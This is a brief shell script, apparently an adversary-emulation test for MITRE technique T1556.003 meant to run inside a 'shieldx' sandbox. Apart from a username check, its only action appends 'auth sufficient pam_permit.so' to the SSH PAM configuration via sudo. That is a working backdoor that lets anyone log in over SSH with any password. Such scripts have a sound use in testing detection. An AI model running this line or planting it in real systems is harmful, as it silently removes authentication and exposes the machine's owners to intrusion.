#!/bin/sh
# technique: T1556.003
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sshd > /dev/null
